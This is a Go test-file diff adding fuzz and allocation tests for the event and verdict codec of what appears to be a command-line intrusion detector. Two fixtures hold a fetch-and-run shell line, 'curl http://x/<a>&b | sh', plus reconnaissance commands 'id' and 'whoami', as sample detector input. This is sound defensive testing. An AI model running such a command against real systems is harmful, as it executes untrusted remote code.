@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"math"
 	"reflect"
+	"slices"
 	"testing"
 
 	"clmids/internal/stream"
@@ -113,7 +114,25 @@ func FuzzDecodeVerdict(f *testing.F) {
 	})
 }
 
-// FuzzScanVerdict pins ScanVerdict to DecodeVerdict, on the line
+// scanVerdict is the full-line verdict scanner FuzzScanVerdictFor checks
+// ScanVerdictFor against: it reads time and context_score from any
+// canonical verdict, echo included, through the same verdictTail.
+func scanVerdict(line []byte) (t int64, contextScore float64, ok bool) {
+	p := parser{b: line, ok: true}
+	p.lit(`{"user":`)
+	p.skipStr()
+	p.lit(`,"time":`)
+	t = p.integer(64)
+	p.lit(`,"line":`)
+	p.skipStr()
+	contextScore = p.verdictTail()
+	if !p.end() {
+		return 0, 0, false
+	}
+	return t, contextScore, true
+}
+
+// FuzzScanVerdict pins scanVerdict to DecodeVerdict, on the line
 // AppendVerdict writes for the fields and on arbitrary bytes: it accepts a
 // line if and only if DecodeVerdict does, and then its time and
 // context_score are bit-equal to the decoded ones. The seeds are
@@ -129,13 +148,75 @@ func FuzzScanVerdict(f *testing.F) {
 		for _, b := range [][]byte{bytes.TrimSuffix(enc, []byte("\n")), raw} {
 			var want stream.Verdict
 			decoded := DecodeVerdict(b, &want)
-			tm, score, ok := ScanVerdict(b)
+			tm, score, ok := scanVerdict(b)
 			if ok != decoded {
-				t.Fatalf("ScanVerdict(%q) ok = %v, DecodeVerdict ok = %v", b, ok, decoded)
+				t.Fatalf("scanVerdict(%q) ok = %v, DecodeVerdict ok = %v", b, ok, decoded)
 			}
 			if ok && (tm != want.Time || math.Float64bits(score) != math.Float64bits(want.ContextScore)) {
-				t.Fatalf("ScanVerdict(%q) = %d, %v; DecodeVerdict time %d, context_score %v",
+				t.Fatalf("scanVerdict(%q) = %d, %v; DecodeVerdict time %d, context_score %v",
 					b, tm, score, want.Time, want.ContextScore)
+			}
+		}
+	})
+}
+
+// FuzzScanEvent pins ScanEvent to the codec: it accepts a line if and
+// only if DecodeEvent decodes it and AppendEvent writes the result back
+// as exactly that line, and then its user and time, and RawEvent.Text of
+// the line, are the decoded ones. AppendRawEvent of the decoded event
+// writes that line back, with the decoded user and line.
+// The seeds are FuzzDecodeEvent's, plus canonical lines with an escaped
+// user, a time of 0 and the widest times, and lines that decode but are
+// not canonical: a \u0041, an upper-case \u003C, a \/ or a \ufffd
+// escape, a raw <, a raw U+2028, a surrogate pair, and clmgen's JSONL.
+func FuzzScanEvent(f *testing.F) {
+	f.Fuzz(func(t *testing.T, data []byte) {
+		var ev stream.Event
+		canonical := DecodeEvent(data, &ev) == nil && string(AppendEvent(nil, &ev)) == string(data)+"\n"
+		user, tm, ok := ScanEvent(data)
+		if ok != canonical {
+			t.Fatalf("ScanEvent(%q) ok = %v, canonical = %v", data, ok, canonical)
+		}
+		if ok && (string(user) != ev.User || tm != ev.Time) {
+			t.Fatalf("ScanEvent(%q) = %q, %d; DecodeEvent = %+v", data, user, tm, ev)
+		}
+		if !ok {
+			return
+		}
+		if raw := (RawEvent{Line: data}); raw.Text() != ev.Line {
+			t.Fatalf("Text of %q = %q; DecodeEvent line %q", data, raw.Text(), ev.Line)
+		}
+		if _, raw := AppendRawEvent(nil, &ev); string(raw.Line) != string(data) || string(raw.User) != ev.User || raw.Time != ev.Time || raw.Text() != ev.Line {
+			t.Fatalf("AppendRawEvent(%+v) = %q, user %q, time %d, text %q", ev, raw.Line, raw.User, raw.Time, raw.Text())
+		}
+	})
+}
+
+// FuzzScanVerdictFor pins ScanVerdictFor to scanVerdict for every event
+// line ScanEvent accepts: it accepts a verdict line exactly when
+// scanVerdict does and the line begins with the event minus its closing
+// brace, and then the verdict's time is the event's and context_score is
+// bit-equal. Each verdict input is tried as it is and behind the event's
+// echo, so the fuzzer also mutates the part after the echo. The seeds
+// pair events with their verdicts, with verdicts for other events, with
+// lines FuzzScanVerdict's corpus must reject, and with bare verdict tails.
+func FuzzScanVerdictFor(f *testing.F) {
+	f.Fuzz(func(t *testing.T, event, verdict []byte) {
+		_, tm, ok := ScanEvent(event)
+		if !ok {
+			return // the router checks verdicts only against canonical lines
+		}
+		echo := event[:len(event)-1]
+		for _, line := range [][]byte{verdict, append(slices.Clip(echo), verdict...)} {
+			score, ok := ScanVerdictFor(line, event)
+			vt, want, wantOK := scanVerdict(line)
+			wantOK = wantOK && bytes.HasPrefix(line, echo)
+			if ok != wantOK {
+				t.Fatalf("ScanVerdictFor(%q, %q) ok = %v, want %v", line, event, ok, wantOK)
+			}
+			if ok && (vt != tm || math.Float64bits(score) != math.Float64bits(want)) {
+				t.Fatalf("ScanVerdictFor(%q, %q) = %v; scanVerdict time %d, context_score %v; event time %d",
+					line, event, score, vt, want, tm)
 			}
 		}
 	})
@@ -210,8 +291,8 @@ func TestAppendAllocs(t *testing.T) {
 	}
 }
 
-// ScanVerdict allocates nothing, on escaped strings and exponent-form
-// floats too.
+// Scanning a verdict allocates nothing, on escaped strings and
+// exponent-form floats too.
 func TestScanVerdictAllocs(t *testing.T) {
 	v := stream.Verdict{User: `eve,"<root>"`, Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh`, Context: "id\nwhoami",
 		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
@@ -220,10 +301,37 @@ func TestScanVerdictAllocs(t *testing.T) {
 		t.Fatal(err)
 	}
 	line := enc[:len(enc)-1]
-	if tm, score, ok := ScanVerdict(line); !ok || tm != v.Time || score != v.ContextScore {
-		t.Fatalf("ScanVerdict(%q) = %d, %v, %v", line, tm, score, ok)
+	if tm, score, ok := scanVerdict(line); !ok || tm != v.Time || score != v.ContextScore {
+		t.Fatalf("scanVerdict(%q) = %d, %v, %v", line, tm, score, ok)
 	}
-	if n := testing.AllocsPerRun(100, func() { ScanVerdict(line) }); n != 0 {
-		t.Errorf("ScanVerdict: %v allocs/op, want 0", n)
+	if n := testing.AllocsPerRun(100, func() { scanVerdict(line) }); n != 0 {
+		t.Errorf("scanVerdict: %v allocs/op, want 0", n)
+	}
+}
+
+// ScanEvent and ScanVerdictFor allocate nothing on a line whose user needs
+// no unescaping, whatever its command line holds.
+func TestScanEventAllocs(t *testing.T) {
+	ev := stream.Event{User: "user013", Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh "q" \ é`}
+	enc := AppendEvent(nil, &ev)
+	event := enc[:len(enc)-1]
+	v := stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: "id\nwhoami",
+		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
+	venc, err := AppendVerdict(nil, &v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := venc[:len(venc)-1]
+	if user, tm, ok := ScanEvent(event); !ok || string(user) != ev.User || tm != ev.Time {
+		t.Fatalf("ScanEvent(%q) = %q, %d, %v", event, user, tm, ok)
+	}
+	if score, ok := ScanVerdictFor(line, event); !ok || score != v.ContextScore {
+		t.Fatalf("ScanVerdictFor(%q) = %v, %v", line, score, ok)
+	}
+	if n := testing.AllocsPerRun(100, func() { ScanEvent(event) }); n != 0 {
+		t.Errorf("ScanEvent: %v allocs/op, want 0", n)
+	}
+	if n := testing.AllocsPerRun(100, func() { ScanVerdictFor(line, event) }); n != 0 {
+		t.Errorf("ScanVerdictFor: %v allocs/op, want 0", n)
 	}
 }
